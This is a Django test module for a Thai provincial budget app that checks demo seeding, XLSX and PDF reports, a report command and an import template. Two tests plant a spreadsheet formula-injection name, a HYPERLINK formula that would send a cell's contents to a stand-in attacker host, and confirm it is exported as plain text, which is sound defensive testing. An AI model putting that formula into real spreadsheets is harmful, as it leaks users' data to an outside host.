"""The monthly-meeting reports, the command that writes them, and the demo budgets."""

import io
from decimal import Decimal
from pathlib import Path
from tempfile import TemporaryDirectory

import openpyxl
from django.core.management import call_command
from django.urls import reverse

from saisaat.budget.models import BudgetLine, MonthlyAmount
from saisaat.budget.summary import build_overview
from saisaat.budget.tests.helpers import InEnglish
from saisaat.demo.budget import seed_budget_demo
from saisaat.orgs.models import Unit
from saisaat.testing.base import PersonaTestCase


class DemoTests(InEnglish, PersonaTestCase):
    def test_it_seeds_every_unit_with_one_district_lagging(self):
        result = seed_budget_demo(self.province, 2566)
        self.assertEqual(result["units"], 3)
        for unit in (self.province, self.district_a, self.district_b):
            count = BudgetLine.objects.filter(unit=unit, fiscal_year=2566).count()
            self.assertTrue(3 <= count <= 6, (unit.code, count))
        overview = build_overview(self.province, 2566, rolled_up=True)
        self.assertEqual(overview.as_of, 9)
        lagging = [row.unit.code for row in overview.lagging]
        self.assertEqual(lagging, [result["lagging_unit"]])
        self.assertEqual(lagging, ["4302"])
        for line in BudgetLine.objects.all():
            planned = sum(m.planned for m in line.months.all())
            self.assertTrue(Decimal(15000) <= planned <= Decimal(120000), planned)
        self.assertFalse(MonthlyAmount.objects.filter(month__gt=9, disbursed__gt=0).exists())
        self.assertIsNotNone(BudgetLine.objects.filter(unit=self.province, number=1)[0].activity)

    def test_it_is_idempotent(self):
        seed_budget_demo(self.province, 2566)
        before = sorted(
            MonthlyAmount.objects.values_list("line__name", "month", "planned", "disbursed")
        )
        seed_budget_demo(self.province, 2566)
        after = sorted(
            MonthlyAmount.objects.values_list("line__name", "month", "planned", "disbursed")
        )
        self.assertEqual(before, after)


class ReportTests(InEnglish, PersonaTestCase):
    load_plan = False

    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        seed_budget_demo(cls.province, 2566)

    def test_the_xlsx_report_reconciles_with_the_overview(self):
        self.login(self.approver)
        response = self.client.get(reverse("budget:report-xlsx", args=["43"]) + "?year=2566")
        self.assertEqual(response.status_code, 200)
        workbook = openpyxl.load_workbook(io.BytesIO(response.content))
        summary = workbook.worksheets[0]
        rows = [r for r in summary.iter_rows(min_row=5, values_only=True) if r[0]]
        overview = build_overview(self.province, 2566, rolled_up=True)
        units, total = rows[:-1], rows[-1]
        self.assertEqual(len(units), 3)
        self.assertEqual(Decimal(str(total[1])), overview.total.planned)
        self.assertEqual(sum(Decimal(str(r[3])) for r in units), overview.total.disbursed_to_date)
        lines = list(workbook.worksheets[2].iter_rows(min_row=2, values_only=True))
        self.assertEqual(len(lines), BudgetLine.objects.count())

    def test_a_line_named_like_a_formula_is_text_in_the_province_report(self):
        line = BudgetLine.objects.filter(unit=self.district_a).first()
        line.name = '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")'
        line.save(update_fields=["name"])
        self.login(self.approver)
        response = self.client.get(reverse("budget:report-xlsx", args=["43"]) + "?year=2566")
        lines = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[2]
        cells = [row[2] for row in lines.iter_rows(min_row=2) if row[2].value == line.name]
        self.assertEqual([cell.data_type for cell in cells], ["s"])

    def test_the_pdf_report_is_a_pdf_with_thai_fonts(self):
        self.login(self.district_b_officer)
        response = self.client.get(reverse("budget:report-pdf", args=["4302"]) + "?year=2566")
        self.assertEqual(response.status_code, 200)
        self.assertTrue(response.content.startswith(b"%PDF"))
        self.assertIn(b"Sarabun", response.content)

    def test_the_command_writes_both_formats(self):
        with TemporaryDirectory() as folder:
            for fmt in ("xlsx", "pdf"):
                out = Path(folder) / f"report.{fmt}"
                call_command(
                    "budget_report",
                    unit="43",
                    year=2566,
                    format=fmt,
                    out=str(out),
                    stdout=io.StringIO(),
                )
                self.assertGreater(out.stat().st_size, 1000)

    def test_the_template_carries_the_recorded_amounts(self):
        self.login(self.approver)
        response = self.client.get(reverse("budget:import-template", args=["4301"]) + "?year=2566")
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        self.assertEqual(
            [c.value for c in sheet[4]][:5],
            ["ลำดับ", "รายการ/โครงการ", "แหล่งงบประมาณ", "งบที่ได้รับจัดสรร", "ต.ค."],
        )
        self.assertEqual(sheet.cell(4, 17).value, "รวมเบิกจ่าย")
        line = BudgetLine.objects.get(unit__code="4301", number=1)
        self.assertEqual(sheet.cell(5, 2).value, line.name)
        self.assertEqual(Decimal(str(sheet.cell(5, 5).value)), line.months.get(month=1).disbursed)
        self.assertIsNotNone(Unit.objects.get(code="4301"))

    def test_a_line_named_like_a_formula_is_text_in_the_template(self):
        line = BudgetLine.objects.get(unit__code="4301", number=1)
        line.name = '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")'
        line.save(update_fields=["name"])
        self.login(self.approver)
        response = self.client.get(reverse("budget:import-template", args=["4301"]) + "?year=2566")
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        self.assertEqual((sheet.cell(5, 2).value, sheet.cell(5, 2).data_type), (line.name, "s"))
        self.assertEqual(sheet.cell(5, 17).data_type, "f")  # the template's own sums stay
